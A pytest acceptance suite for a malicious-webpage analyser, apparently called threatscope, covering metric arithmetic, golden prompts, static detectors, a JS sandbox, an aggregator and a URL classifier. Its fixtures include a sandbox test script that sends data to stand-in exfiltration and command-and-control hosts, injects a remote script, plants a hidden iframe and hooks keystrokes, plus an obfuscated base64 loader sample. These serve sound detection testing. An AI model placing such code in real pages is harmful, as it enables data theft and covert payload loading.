"""Acceptance suite: one test per release criterion, each printing a
PASS line when its assertions hold. Tolerances are pinned here, not
deferred to calibration."""

import json
import random
import time
from importlib import resources
from pathlib import Path

import pytest

from threatscope.corpus import PageSnapshot, ScriptResource, load_corpus
from threatscope.evidence import PatternFlag, UrlRecord, load_bundle
from threatscope.harness import ConfusionCounts, compute_metrics, display_metrics, eval_corpus
from threatscope.llm import parse_verdict
from threatscope.pipeline import AnalysisOptions
from threatscope.prompts import PROMPT_KINDS, build, load_schema
from threatscope.report import render_json
from threatscope.sandbox import SandboxConfig, execute_page, node_available
from threatscope.static_analyzer import analyze_script

CORPUS20 = Path(__file__).parent / "fixtures" / "corpus20" / "corpus.json"


def _passed(name):
    print(f"[PASS] {name}")


# ---------------------------------------------------------------------------
# Criterion 1: benchmark metric arithmetic
# ---------------------------------------------------------------------------


def test_criterion_table_arithmetic():
    start = time.perf_counter()
    metrics = compute_metrics(ConfusionCounts(tp=94, fn=6, tn=90, fp=10))
    elapsed = time.perf_counter() - start
    shown = display_metrics(metrics)
    assert shown["accuracy"] == "92%"
    assert shown["precision"] == "0.90"
    assert shown["recall"] == "0.94"
    assert shown["f1"] == "0.92"
    assert elapsed < 0.001
    _passed("benchmark arithmetic: 94/6/90/10 -> 92% / 0.90 / 0.94 / 0.92 in <1ms")


# ---------------------------------------------------------------------------
# Criterion 2: golden prompts byte-for-byte
# ---------------------------------------------------------------------------


def test_criterion_golden_prompts():
    bundle = load_bundle(
        str(resources.files("threatscope").joinpath("fixtures/github/bundle.json"))
    )
    for kind in PROMPT_KINDS:
        golden = (
            resources.files("threatscope")
            .joinpath(f"fixtures/github/golden_prompts/{kind}.txt")
            .read_text()
        )
        assert build(kind, bundle).full_text == golden, kind
    sandbox_text = (
        resources.files("threatscope")
        .joinpath("fixtures/github/golden_prompts/sandbox_behavior.txt")
        .read_text()
    )
    assert "window.fetch: 1x, EventTarget.addEventListener: 100x" in sandbox_text
    _passed("golden prompts: all five render byte-for-byte for the github fixture")


# ---------------------------------------------------------------------------
# Criterion 3: recorded response blocks parse strictly
# ---------------------------------------------------------------------------


def test_criterion_response_fixtures():
    for name in ("sandbox_behavior", "trust", "script_security", "global_properties", "baseline"):
        raw = (
            resources.files("threatscope")
            .joinpath(f"fixtures/paper_answers/{name}.json")
            .read_text()
        )
        document = parse_verdict(raw, load_schema(name))
        assert document.repair_applied is False, name
    globals_doc = parse_verdict(
        resources.files("threatscope")
        .joinpath("fixtures/paper_answers/global_properties.json")
        .read_text(),
        load_schema("global_properties"),
    )
    # the optional-boolean exception: omitted flag defaults to false
    assert globals_doc.get("behaviorAnalysis")["hasSessionHijackers"] is False
    _passed("response fixtures: all five blocks parse strictly and validate")


# ---------------------------------------------------------------------------
# Criterion 4: static detector suite
# ---------------------------------------------------------------------------


def test_criterion_static_detectors():
    start = time.perf_counter()
    fixtures = json.loads(
        resources.files("threatscope").joinpath("fixtures/flag_fixtures.json").read_text()
    )
    assert len(fixtures) == 14
    for flag_name, pair in fixtures.items():
        assert analyze_script("p", pair["positive"]).flags == {PatternFlag(flag_name)}
        assert analyze_script("n", pair["negative"]).flags == set()
    idiom = (
        'var _0xabc = "aHR0cHM6Ly9leGFtcGxlLnRlc3QvcGF5bG9hZC5qcw==";\n'
        "var script = document.createElement('script');\n"
        "script.src = decodeURIComponent(atob(_0xabc));\n"
        "document.body.appendChild(script);\n"
    )
    flags = analyze_script("idiom.js", idiom).flags
    assert {PatternFlag.BASE64_DECODE, PatternFlag.DYNAMIC_SCRIPT_INJECTION} <= flags
    assert analyze_script("empty.js", "").code_quality_score == 100
    assert time.perf_counter() - start < 1.0
    _passed("static detectors: 14 positive + 14 negative fixtures, idiom, empty, <1s")


# ---------------------------------------------------------------------------
# Criterion 5: sandbox trace completeness
# ---------------------------------------------------------------------------

KITCHEN_SINK = """
(function () {
  fetch('http://exfil.evil.test/collect', {method: 'POST'});
  var xhr = new XMLHttpRequest(); xhr.open('PUT', 'http://api.evil.test/x'); xhr.send('b');
  new WebSocket('wss://c2.evil.test/sock');
  eval('1+1');
  var s = document.createElement('script'); s.src = 'https://cdn.evil.test/drop.js';
  document.body.appendChild(s);
  var f = document.createElement('iframe');
  f.setAttribute('style', 'width:0;height:0');
  f.src = 'https://frame.evil.test/';
  document.body.appendChild(f);
  document.cookie = 'sid=1';
  var jar = document.cookie;
  localStorage.setItem('k', 'v');
  setTimeout(function(){}, 50);
  document.addEventListener('keydown', function(){});
  window.oneNewGlobal = true;
})();
"""


@pytest.mark.skipif(not node_available(), reason="embedded engine unavailable")
def test_criterion_sandbox_trace_completeness():
    cfg = SandboxConfig()
    snapshot = PageSnapshot(
        url=UrlRecord.parse("http://sandbox.local/"),
        html="<html><body></body></html>",
        scripts=[ScriptResource("inline#0", KITCHEN_SINK, "inline")],
    )
    start = time.perf_counter()
    result = execute_page(snapshot, cfg)
    elapsed_ms = (time.perf_counter() - start) * 1000
    assert elapsed_ms <= cfg.hard_cap_ms + 500

    def key(e):
        d = e.detail
        return {
            "fetch": ("fetch", d.get("url"), d.get("method")),
            "xhr": ("xhr", d.get("url"), d.get("method")),
            "websocket": ("websocket", d.get("url")),
            "eval": ("eval", d.get("api")),
            "script_append": ("script_append", d.get("src")),
            "dom_insert": ("dom_insert", d.get("tag"), d.get("hidden")),
            "cookie_read": ("cookie_read",),
            "cookie_write": ("cookie_write",),
            "storage_access": ("storage_access", d.get("op"), d.get("key")),
            "timer_set": ("timer_set", d.get("delay")),
            "listener_add": ("listener_add", d.get("event")),
            "global_created": ("global_created", d.get("name")),
        }.get(e.kind)

    expected = {
        ("fetch", "http://exfil.evil.test/collect", "POST"),
        ("xhr", "http://api.evil.test/x", "PUT"),
        ("websocket", "wss://c2.evil.test/sock"),
        ("eval", "window.eval"),
        ("script_append", "https://cdn.evil.test/drop.js"),
        ("dom_insert", "iframe", True),
        ("cookie_read",),
        ("cookie_write",),
        ("storage_access", "set", "k"),
        ("timer_set", 50),
        ("listener_add", "keydown"),
        ("global_created", "oneNewGlobal"),
    }
    observed = {key(e) for e in result.trace if key(e) is not None}
    assert observed == expected
    for item in expected:
        assert sum(1 for e in result.trace if key(e) == item) == 1, item
    _passed("sandbox: kitchen-sink page yields exactly the enumerated events in bound")


# ---------------------------------------------------------------------------
# Criterion 6: aggregator properties (10k samples + threshold sweep)
# ---------------------------------------------------------------------------


def test_criterion_aggregator_properties():
    from threatscope.aggregator import combine
    from threatscope.evidence import Severity

    from test_aggregator import _CLASS_RANK, benign_verdicts, random_verdicts

    url = UrlRecord.parse("https://acceptance.test/")
    rng = random.Random(2024)
    for _ in range(10_000):
        verdicts = random_verdicts(rng)
        points = rng.randrange(0, 101)
        report = combine(verdicts, evidence_points=points, url=url)
        if report.classification == "malicious":
            assert report.risk_level >= Severity.HIGH
        if report.classification == "benign":
            assert all(f.severity < Severity.CRITICAL for f in report.findings)
        bumped = combine(verdicts, evidence_points=min(100, points + 7), url=url)
        assert bumped.risk_score >= report.risk_score
        assert _CLASS_RANK[bumped.classification] >= _CLASS_RANK[report.classification]

    sequence = [
        combine(benign_verdicts(), evidence_points=e, url=url).classification
        for e in range(101)
    ]
    changes = [
        (sequence[i - 1], sequence[i])
        for i in range(1, 101)
        if sequence[i] != sequence[i - 1]
    ]
    assert changes == [
        ("benign", "benign_with_warnings"),
        ("benign_with_warnings", "malicious"),
    ]
    _passed("aggregator: 10k randomized samples hold invariants; sweep has 2 transitions")


# ---------------------------------------------------------------------------
# Criterion 7: end-to-end determinism on the 20-page corpus
# ---------------------------------------------------------------------------


@pytest.mark.skipif(not node_available(), reason="embedded engine unavailable")
def test_criterion_end_to_end_determinism():
    manifest = load_corpus(CORPUS20)
    start = time.perf_counter()
    first = eval_corpus(manifest, AnalysisOptions())
    second = eval_corpus(manifest, AnalysisOptions())
    elapsed = time.perf_counter() - start
    assert elapsed < 60.0
    for outcome in (first, second):
        assert outcome.errors == 0
        assert all(r.predicted == r.ground_truth for r in outcome.results)
    assert render_json(first, stable=True) == render_json(second, stable=True)
    _passed("end-to-end: 20/20 planted labels, byte-identical reports, <60s for 2 runs")


# ---------------------------------------------------------------------------
# Criterion 8: baseline classifier
# ---------------------------------------------------------------------------


def test_criterion_baseline():
    from threatscope.baseline import BaselineModel, extract_lexical_features

    rules_model = BaselineModel()  # untrained -> shipped rule fallback
    assert (
        rules_model.classify_url(
            "hxxps://sites.google.com/l0gin-microsoftwebonlne.app/8965767/"
        )
        == "malicious"
    )
    assert rules_model.classify_url("https://accounts.google.com/ServiceLogin") == "benign"

    benign = [f"https://site{i}.example.com/page{i}" for i in range(10)]
    malicious = [f"http://a-b-c-d{i}.example-bad.top/x-y-z{i}" for i in range(10)]
    urls = benign + malicious
    labels = ["benign"] * 10 + ["malicious"] * 10
    vectors = [extract_lexical_features(u) for u in urls]
    trained = BaselineModel(seed=7).fit(vectors, labels)
    assert [trained.classify(v) for v in vectors] == labels
    _passed("baseline: documented URLs via rules; ensemble 100% on separable set")
